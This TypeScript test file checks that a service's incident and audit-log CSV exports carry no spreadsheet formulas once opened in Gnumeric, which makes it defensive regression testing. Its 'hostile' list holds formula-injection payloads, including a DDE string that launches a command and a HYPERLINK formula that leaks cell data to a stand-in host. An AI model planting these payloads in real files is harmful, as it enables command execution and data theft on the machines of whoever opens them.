import { execFileSync } from 'node:child_process'
import { existsSync } from 'node:fs'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { startCordon, type Running } from '../kit/process.js'
import { skipUnless } from '../kit/skip.js'

const program = '/usr/bin/ssconvert'
/** What somebody may write in a report so that whoever opens the file runs it. */
const hostile = [
  '=1+1',
  '=HYPERLINK("https://example.org?leak="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1;2)',
  '\t=1+1',
  '＝1+1',
  "'=1+1",
  '"=1+1"',
  'Ambush",=1+1,"',
  'Ambush;=1+1',
  'Ambush\n=1+1',
  'Ambush\r\n=1+1',
] as const
let folder: string
let server: Running

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'cordon-sheet-'))
  server = await startCordon(join(folder, 'data'))
  const features = hostile.map((text, n) => ({
    type: 'Feature',
    geometry: { type: 'Point', coordinates: [40 + n / 1000, 35] },
    properties: {
      ...{
        type: 'ambush',
        occurredFrom: '2021-11-08',
        source: text,
        externalId: `${text}${n}`,
        title: text,
        summary: text,
      },
      ...{ place: text, actors: [text], targets: [text], tags: [text] },
      casualties: [{ source: text, killed: { low: 1, best: 1, high: 2 }, injured: null, words: text }],
    },
  }))
  const answer = await ask('/api/incidents', { type: 'FeatureCollection', features })
  expect([answer.status, await answer.text()]).toEqual([201, expect.anything()])
})
afterAll(async () => {
  await server.stop()
  await rm(folder, { recursive: true, force: true })
})
beforeEach((context) => skipUnless(context, existsSync(program), 'no ssconvert: install gnumeric'))

function ask(path: string, body?: object): Promise<Response> {
  const headers = { authorization: `Bearer ${server.token}`, 'content-type': 'application/json' }
  return fetch(
    server.url + path,
    body === undefined ? { headers } : { method: 'POST', headers, body: JSON.stringify(body) },
  )
}

/** The cells of a file as a spreadsheet holds them once it is opened. */
async function opened(name: string, text: string): Promise<readonly Cell[]> {
  const [from, to] = [join(folder, `${name}.csv`), join(folder, `${name}.xml`)]
  await writeFile(from, text)
  execFileSync(program, ['--import-type=Gnumeric_stf:stf_csvtab', '--export-type=Gnumeric_XmlIO:sax:0', from, to], {
    stdio: 'pipe',
  })
  const sheet = await readFile(to, 'utf8')
  return [...sheet.matchAll(/<gnm:Cell ([^>]*)>([^<]*)</g)].map(([, how = '', content = '']) => ({
    row: Number(/Row="(\d+)"/.exec(how)?.[1]),
    // What is calculated has no type of its own.
    isFormula: !how.includes('ValueType='),
    content,
  }))
}

interface Cell {
  readonly row: number
  readonly isFormula: boolean
  readonly content: string
}

describe('a spreadsheet that opens', () => {
  it('a file that guards nothing runs it, so that this would be seen', async () => {
    const cells = await opened('plain', 'title,summary\n=1+1,Ambush\n')
    expect(cells.filter(({ isFormula }) => isFormula)).toMatchObject([{ row: 1, content: '=1+1' }])
  })

  it('the export of incidents runs nothing of what others wrote, and has a row for each', async () => {
    const cells = await opened('incidents', await (await ask('/api/incidents.csv')).text())
    expect(cells.filter(({ isFormula }) => isFormula)).toEqual([])
    expect(new Set(cells.map(({ row }) => row)).size).toBe(hostile.length + 1)
  })

  it('the audit log runs nothing of what was asked', async () => {
    for (const text of hostile) await ask(`/api/incidents.csv?${new URLSearchParams({ q: text }).toString()}`)
    const cells = await opened('audit', await (await ask('/api/audit.csv')).text())
    expect(cells.length).toBeGreaterThan(hostile.length)
    expect(cells.filter(({ isFormula }) => isFormula)).toEqual([])
  })
})
